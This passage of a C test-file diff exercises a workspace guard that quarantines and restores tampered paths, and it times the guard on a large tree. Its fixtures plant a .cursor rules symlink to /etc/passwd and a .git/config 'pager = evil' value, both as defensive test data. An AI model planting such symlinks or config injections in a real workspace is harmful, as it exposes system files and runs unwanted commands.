+		check_change(&rep, ".cursor", GUARD_CREATED, "rules/a/b.md", "evil\n");
+		const struct guard_change *c = find_change(&rep, ".cursor");
+		_cleanup_free_ char *t = c && c->quarantined ? link_target(c->quarantined, "rules/link") : NULL;
+		is_str(t, "/etc/passwd", "a symlink is copied as a symlink");
+		ok(!exists(f.ws, ".cursor"), "and the original tree removed");
+		check_change(&rep, ".git/config", GUARD_CHANGED, NULL, "[core]\n\tpager = evil\n");
+		_cleanup_free_ char *config = slurp(f.ws, ".git/config");
+		is_str(config, CONFIG, ".git/config restored");
+		guard_report_free(&rep);
+		guard_free(g);
+	}
+	fixture_done(&f);
+}
+
+static double ms_since(unsigned long long t0)
+{
+	return (double)(now_usec() - t0) / 1000.0;
+}
+
+/* 100,000 files in 1,000 directories, 50 nested repositories each with
+ * 14 hooks and a config: what begin and end cost. */
+static void test_timing(void)
+{
+	/* On tmpfs where there is one: what is measured is the guard, not a
+	 * virtual disk that throttles after 100,000 inodes. */
+	struct statfs sf;
+	bool shm = statfs("/dev/shm", &sf) == 0 && sf.f_type == TMPFS_MAGIC && access("/dev/shm", W_OK) == 0;
+	_cleanup_free_ char *ws = xstrdup(shm ? "/dev/shm/stockade-guard-big-XXXXXX" : "/tmp/stockade-guard-big-XXXXXX");
+	if (!mkdtemp(ws)) {
+		perror("mkdtemp");
+		exit(1);
+	}
+	_cleanup_free_ char *state_top = tmp_dir("bigstate");
+	unsigned long long t0 = now_usec();
+	int wfd = open(ws, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	char name[64];
+	for (int d = 0; d < 100; d++) {
+		snprintf(name, sizeof(name), "d%02d", d);
+		mkdirat(wfd, name, 0755);
+		int dfd = openat(wfd, name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+		for (int s2 = 0; s2 < 10; s2++) {
+			snprintf(name, sizeof(name), "s%d", s2);
+			mkdirat(dfd, name, 0755);
+			int sfd = openat(dfd, name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+			for (int i = 0; i < 100; i++) {
+				snprintf(name, sizeof(name), "f%02d.c", i);
+				int fd = openat(sfd, name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
+				if (fd >= 0)
+					close(fd);
+			}
+			close(sfd);
+		}
+		close(dfd);
+	}
+	close(wfd);
+	static const char *const hooks[] = {
+		"applypatch-msg", "commit-msg", "fsmonitor-watchman", "post-update", "pre-applypatch",
+		"pre-commit", "pre-merge-commit", "pre-push", "pre-rebase", "pre-receive",
+		"prepare-commit-msg", "push-to-checkout", "sendemail-validate", "update",
+	};
+	_cleanup_free_ char *body = repeat('#', 1500);
+	for (int r = 0; r < 50; r++) {
+		for (size_t h = 0; h < ARRAY_SIZE(hooks); h++) {
+			_cleanup_free_ char *rel = xasprintf("d%02d/s0/repo/.git/hooks/%s.sample", r, hooks[h]);
+			put(ws, rel, body);
+		}
+		_cleanup_free_ char *cfg = xasprintf("d%02d/s0/repo/.git/config", r);
+		put(ws, cfg, CONFIG);
+		_cleanup_free_ char *head = xasprintf("d%02d/s0/repo/.git/HEAD", r);
+		put(ws, head, "ref: refs/heads/main\n");
+	}
+	diag("timing: made 100,000 files and 50 repositories in %s in %.0f ms", shm ? "tmpfs" : "/tmp", ms_since(t0));
+
+	_cleanup_free_ char *state = path_join(state_top, "state");
+	struct guard_options o = { .workspace = ws, .state_dir = state };
+	struct guard *g = NULL;
+	struct guard_report rep = { 0 };
+	t0 = now_usec();
+	int r = guard_begin(&o, &g, &rep);
+	double begin_ms = ms_since(t0);
+	size_t files = rep.n_files, copied = rep.n_copied;
+	guard_report_free(&rep);
+	is_int(r, 0, "guard_begin on the large workspace");
+	t0 = now_usec();
+	r = g ? guard_end(g, &rep) : -EINVAL;
+	double end_ms = ms_since(t0);
+	is_int(r, 0, "guard_end on the large workspace");
+	is_int(rep.n_changes, 0, "no change");
+	guard_report_free(&rep);
+	guard_free(g);
+
+	g = NULL;
+	t0 = now_usec();
+	r = guard_begin(&o, &g, &rep);
+	double again_ms = ms_since(t0);
+	is_int(r, 0, "a second guard_begin");
+	is_int(rep.n_copied, 0, "reuses every copy");
+	guard_report_free(&rep);
+	t0 = now_usec();
+	r = g ? guard_end(g, &rep) : -EINVAL;
+	double end2_ms = ms_since(t0);
+	guard_report_free(&rep);
+	guard_free(g);
+	diag("timing: begin %.1f ms (%zu files, %zu copied), end %.1f ms, second begin %.1f ms (reuse), second end %.1f ms",
+	     begin_ms, files, copied, end_ms, again_ms, end2_ms);
+	_cleanup_strv_ char **paths = NULL;
+	t0 = now_usec();
+	guard_discover(&o, &paths);
+	diag("timing: guard_discover %.1f ms (%zu paths)", ms_since(t0), strv_length(paths));
+
+	t0 = now_usec();
+	rm_rf(ws);
+	rm_rf(state_top);
+	diag("timing: removed the tree in %.0f ms", ms_since(t0));
+}
+
+int main(void)
+{
+	test_discover();
+	test_undo();
+	test_more_kinds();
+	test_over_cap();
+	test_crash();
+	test_concurrent();
+	test_unchanged();
+	test_cross_filesystem();
+	test_timing();
+	return tap_done();
+}
